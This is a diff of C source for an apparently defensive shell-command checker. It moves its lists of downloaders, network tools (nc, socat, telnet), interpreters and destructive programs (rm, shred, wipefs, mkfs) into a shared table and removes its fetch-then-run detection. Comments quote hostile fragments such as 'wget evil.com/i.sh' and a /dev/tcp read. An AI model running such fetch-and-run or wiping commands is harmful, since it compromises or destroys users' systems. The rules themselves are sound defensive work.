@@ -10,6 +10,7 @@
 #include <string.h>
 
 #include "internal.h"
+#include "../knowledge/programs.h"
 
 /* ---- small helpers ---------------------------------------------------- */
 
@@ -77,48 +78,28 @@ static bool is_option(const char *a)
 
 /* ---- program classes ------------------------------------------------- */
 
-static const char *const downloaders[] = {
-	"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "xhs", NULL,
-};
+/* Program classes come from the program table (knowledge/programs.h). */
 
-/* Network programs that are not downloaders. */
-static const char *const network_only[] = {
-	"ssh", "scp", "sftp", "rsync", "nc", "ncat", "netcat", "socat",
-	"telnet", "ftp", "mosh", NULL,
-};
-
-static const char *const interpreters[] = {
-	"sh", "bash", "zsh", "ksh", "dash", "ash", "mksh", "fish", "busybox",
-	"perl", "ruby", "node", "php", "deno", "bun", "eval", "source", ".",
-	"pypy", "pypy3", NULL,
-};
-
-/* python, python3, python3.12 ... */
+/* python, python3, python3.12, pypy3: `-m MODULE` runs a module. */
 static bool is_python(const char *name)
 {
-	if (!starts_with(name, "python"))
-		return false;
-	for (const char *p = name + 6; *p; p++)
-		if (!((*p >= '0' && *p <= '9') || *p == '.'))
-			return false;
-	return true;
+	const lk_program *p = lk_program_find(name);
+	return p && (streq(p->name, "python") || streq(p->name, "pypy"));
 }
 
 bool ll_is_downloader(const char *name)
 {
-	return in_list(downloaders, name);
+	return lk_is(name, LK_DOWNLOADER);
 }
 
 bool ll_is_interpreter(const char *name)
 {
-	return in_list(interpreters, name) || is_python(name);
+	return lk_is(name, LK_SHELL | LK_INTERP | LK_EVAL | LK_SOURCE);
 }
-
-static const char *const awks[] = { "awk", "gawk", "mawk", "nawk", NULL };
 
 bool ll_awk_runs_input(const locus_shell_command *c)
 {
-	if (c->argc == 0 || !in_list(awks, c->name))
+	if (c->argc == 0 || !lk_is(c->name, LK_AWK))
 		return false;
 	for (size_t i = 1; i < c->argc; i++) {
 		const char *a = c->argv[i];
@@ -419,25 +400,6 @@ static const sub_row *find_row(const sub_row *rows, const view *v)
 }
 
 /* ---- destructive programs -------------------------------------------- */
-
-typedef struct prog_row {
-	const char *name;
-	bool prefix;        /* name is a prefix (mkfs.ext4) */
-	const char *reason;
-	const char *never;  /* floor reason, or NULL */
-} prog_row;
-
-static const prog_row destructive_progs[] = {
-	{ "rm", false, "rm deletes files", NULL }, /* floor: see rm_floor */
-	{ "rmdir", false, "rmdir deletes directories", NULL },
-	{ "unlink", false, "unlink deletes files", NULL },
-	{ "shred", false, "shred destroys files", LL_NEVER_FS },
-	{ "truncate", false, "truncate discards file contents", NULL },
-	{ "wipefs", false, "wipefs erases filesystem signatures", LL_NEVER_FS },
-	{ "mkfs", true, "mkfs makes a new filesystem", LL_NEVER_FS },
-	{ "srm", false, "srm destroys files", LL_NEVER_FS },
-	{ NULL, false, NULL, NULL },
-};
 
 /* rm with -r -R -f (any cluster), --recursive, --force (abbreviations
    too), before `--`. */
@@ -817,37 +779,17 @@ void ll_judge_command(const locus_shell_command *c, ll_judgement *j)
 	view v;
 	make_view(c, &v);
 
-	if (in_list(downloaders, c->name) || in_list(network_only, c->name)) {
-		/* Reason text: "<name> reaches the network"; the tables keep
-		   one static string per program. */
-		static const char *const net_reasons[][2] = {
-			{ "curl", "curl reaches the network" },
-			{ "wget", "wget reaches the network" },
-			{ "fetch", "fetch reaches the network" },
-			{ "aria2c", "aria2c reaches the network" },
-			{ "http", "http reaches the network" },
-			{ "https", "https reaches the network" },
-			{ "xh", "xh reaches the network" },
-			{ "xhs", "xhs reaches the network" },
-			{ "ssh", "ssh reaches the network" },
-			{ "scp", "scp reaches the network" },
-			{ "sftp", "sftp reaches the network" },
-			{ "rsync", "rsync reaches the network" },
-			{ "nc", "nc reaches the network" },
-			{ "ncat", "ncat reaches the network" },
-			{ "netcat", "netcat reaches the network" },
-			{ "socat", "socat reaches the network" },
-			{ "telnet", "telnet reaches the network" },
-			{ "ftp", "ftp reaches the network" },
-			{ "mosh", "mosh reaches the network" },
-		};
+	const lk_program *prog = lk_program_find(c->name);
+	if (prog && (prog->cls & LK_NETWORK)) {
 		j->tags |= LOCUS_TAG_NETWORK;
-		const char *r = "a network program reaches the network";
-		for (size_t i = 0; i < sizeof net_reasons / sizeof *net_reasons;
-		     i++)
-			if (streq(net_reasons[i][0], c->name))
-				r = net_reasons[i][1];
-		add_reason(j, r);
+		add_reason(j, prog->net ? prog->net
+		                        : "a network program reaches the network");
+	}
+	if (prog && (prog->cls & (LK_DELETES | LK_WIPES_DEVICE))) {
+		j->tags |= LOCUS_TAG_DESTRUCTIVE;
+		add_reason(j, prog->destroys);
+		if (prog->cls & LK_WIPES_DEVICE)
+			set_never(j, LL_NEVER_FS);
 	}
 	const sub_row *nr = find_row(network_subs, &v);
 	if (nr) {
@@ -855,16 +797,6 @@ void ll_judge_command(const locus_shell_command *c, ll_judgement *j)
 		add_reason(j, nr->reason);
 	}
 
-	for (const prog_row *p = destructive_progs; p->name; p++) {
-		bool hit = p->prefix ? starts_with(c->name, p->name)
-		                     : streq(c->name, p->name);
-		if (!hit)
-			continue;
-		j->tags |= LOCUS_TAG_DESTRUCTIVE;
-		add_reason(j, p->reason);
-		if (p->never)
-			set_never(j, p->never);
-	}
 	for (const opt_row *o = destructive_opts; o->prog; o++) {
 		if (!streq(o->prog, c->name))
 			continue;
@@ -910,36 +842,6 @@ void ll_judge_command(const locus_shell_command *c, ll_judgement *j)
 	}
 }
 
-/* ---- remote-code helpers ---------------------------------------------- */
-
-/* curl/http/xh options that save the body to a file. */
-static bool curl_saves(const char *a)
-{
-	return long_opt(a, "--output", 3) || long_opt(a, "--remote-name", 3) ||
-	       long_opt(a, "--remote-name-all", 3) ||
-	       long_opt(a, "--download", 3) || cluster_has(a, 'o') ||
-	       cluster_has(a, 'O') || cluster_has(a, 'd');
-}
-
-bool ll_downloader_writes_file(const locus_shell_command *c)
-{
-	/* `cat </dev/tcp/h/80 > i.sh` saves what it read from a socket. */
-	if (ll_net_redirect(c) && (c->flags & LOCUS_CMD_WRITES_FILES))
-		return true;
-	if (c->argc == 0 || !ll_is_downloader(c->name))
-		return false;
-	if (c->flags & LOCUS_CMD_WRITES_FILES)
-		return true;
-	/* wget, fetch and aria2c save to a file by default. */
-	if (streq(c->name, "wget") || streq(c->name, "fetch") ||
-	    streq(c->name, "aria2c"))
-		return true;
-	for (size_t i = 1; i < c->argc; i++)
-		if (curl_saves(c->argv[i]))
-			return true;
-	return false;
-}
-
 static const char *const system_dirs[] = {
 	"/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/local/bin",
 	"/usr/local/sbin", NULL,
@@ -955,117 +857,6 @@ static bool system_program(const char *argv0)
 		size_t n = strlen(*d);
 		if ((size_t)(slash - argv0) == n && strncmp(argv0, *d, n) == 0)
 			return true;
-	}
-	return false;
-}
-
-/* Interpreter options whose value is code or a module, not a file. */
-static const char *const inline_code_opts[] = {
-	"-c", "-e", "-E", "-m", "-r", "-p", "--eval", "--print",
-	"--command", NULL,
-};
-
-const char *ll_file_run(const locus_shell_command *c)
-{
-	if (c->argc == 0)
-		return NULL;
-	if (!system_program(c->argv[0]))
-		return c->argv[0]; /* ./install.sh, /tmp/x/run */
-	if (!ll_is_interpreter(c->name) || streq(c->name, "eval"))
-		return NULL;
-	if (streq(c->name, "source") || streq(c->name, "."))
-		return c->argc >= 2 ? c->argv[1] : NULL;
-	for (size_t i = 1; i < c->argc; i++) {
-		const char *a = c->argv[i];
-		if (in_list(inline_code_opts, a))
-			return NULL;
-		/* sh -ec, bash -lc: the cluster holds -c. */
-		if (is_cluster(a) && strchr(a, 'c') && !is_python(c->name))
-			return NULL;
-		if (!is_option(a))
-			return a;
-	}
-	return NULL;
-}
-
-static const char *base_of(const char *path)
-{
-	const char *s = strrchr(path, '/');
-	return s ? s + 1 : path;
-}
-
-/* Last path segment of a URL, without query or fragment, into buf. */
-static const char *url_base(const char *url, char *buf, size_t cap)
-{
-	size_t n = strcspn(url, "?#");
-	while (n > 0 && url[n - 1] == '/')
-		n--;
-	size_t start = n;
-	while (start > 0 && url[start - 1] != '/')
-		start--;
-	size_t len = n - start;
-	if (len == 0 || len >= cap)
-		return NULL;
-	memcpy(buf, url + start, len);
-	buf[len] = '\0';
-	return buf;
-}
-
-/* Long options of downloaders that name the output file in the next word
-   (short ones are clusters ending in o or O: -o, -fsSLo, -qO). */
-static const char *const output_opts[] = {
-	"--output", "--output-document", "--out", NULL,
-};
-
-static bool names_output(const char *a)
-{
-	if (in_list(output_opts, a))
-		return true;
-	size_t n = strlen(a);
-	return is_cluster(a) && (a[n - 1] == 'o' || a[n - 1] == 'O');
-}
-
-bool ll_downloaded_file_runs(const locus_shell_command *d, const char *run)
-{
-	if (!ll_downloader_writes_file(d))
-		return false;
-	/* A name we cannot know (a dynamic word, curl -J): assume it is the
-	   file being run. */
-	if (d->flags & LOCUS_CMD_DYNAMIC_ARGS)
-		return true;
-	const char *want = base_of(run);
-	char buf[256];
-	for (size_t i = 0; i < d->nredirects; i++) {
-		const char *op = d->redirects[i].op;
-		const char *t = d->redirects[i].target;
-		if (op && strchr(op, '>') && t && streq(base_of(t), want))
-			return true;
-	}
-	for (size_t i = 1; i < d->argc; i++) {
-		const char *a = d->argv[i];
-		if (streq(a, "-J") || long_opt(a, "--remote-header-name", 3) ||
-		    cluster_has(a, 'J'))
-			return true;
-		if (names_output(a) && i + 1 < d->argc &&
-		    streq(base_of(d->argv[i + 1]), want))
-			return true;
-		const char *eq = strchr(a, '=');
-		if (eq && a[0] == '-' && a[1] == '-' &&
-		    streq(base_of(eq + 1), want))
-			return true;
-		/* -Oi.sh, -so i.sh: the value attached to -o/-O. */
-		if (is_cluster(a)) {
-			const char *o = strpbrk(a + 1, "oO");
-			if (o && o[1] && streq(base_of(o + 1), want))
-				return true;
-		}
-		/* A URL, with or without a scheme (`wget evil.com/i.sh` saves
-		   i.sh), or an option's value: its last segment. */
-		if (!is_option(a)) {
-			const char *b = url_base(a, buf, sizeof buf);
-			if (b && streq(b, want))
-				return true;
-		}
 	}
 	return false;
 }
@@ -1580,22 +1371,6 @@ bool ll_command_check(const locus_shell_command *c)
 
 /* ---- unknown programs (G2) ------------------------------------------- */
 
-/*
- * Programs in no table below that take data, never code: their arguments
- * are file names, messages or values (`touch 'rm -rf x'`, `export
- * MSG='...'`).  Builtins the parser sees through (trap, eval, source) are
- * known too: the commands in their strings are listed and judged.
- */
-static const char *const known_inert[] = {
-	"tee", "touch", "mkdir", "cp", "mv", "ln", "chmod", "chown", "chgrp",
-	"install", "sleep", "kill", "wait", "logger", "export", "declare",
-	"typeset", "local", "readonly", "unset", "set", "shift", "exit",
-	"return", "read", "trap", "exec", "builtin", "true", "false", ":",
-	"break", "continue", "shopt", "umask", "xargs", "env", "sudo", "doas",
-	"nice", "nohup", "timeout", "time", "stdbuf", "watch", "parallel",
-	"ssh", NULL,
-};
-
 static bool in_sub_table(const sub_row *rows, const char *name)
 {
 	for (const sub_row *r = rows; r->prog; r++)
@@ -1612,15 +1387,15 @@ bool ll_unknown_program(const locus_shell_command *c)
 	if (c->flags & (LOCUS_CMD_WRAPPER | LOCUS_CMD_QUERY_ONLY))
 		return false;
 	const char *n = c->name;
-	if (in_list(read_plain, n) || in_list(known_inert, n) ||
-	    in_list(downloaders, n) || in_list(network_only, n) ||
-	    ll_is_interpreter(n) || is_git_name(n) || streq(n, "dd"))
+	/* A program of the program table is known when the table says what
+	   it does with its arguments (data, code, a command it runs); a row
+	   that only says "has subcommands" or "extracts" does not. */
+	if (in_list(read_plain, n) ||
+	    (lk_classes(n) & ~(uint32_t)(LK_SUBCOMMANDS | LK_EXTRACTS)) ||
+	    is_git_name(n) || streq(n, "dd"))
 		return false;
 	for (const read_rule *r = read_rules; r->name; r++)
 		if (streq(r->name, n))
-			return false;
-	for (const prog_row *p = destructive_progs; p->name; p++)
-		if (p->prefix ? starts_with(n, p->name) : streq(n, p->name))
 			return false;
 	for (const opt_row *o = destructive_opts; o->prog; o++)
 		if (streq(o->prog, n))
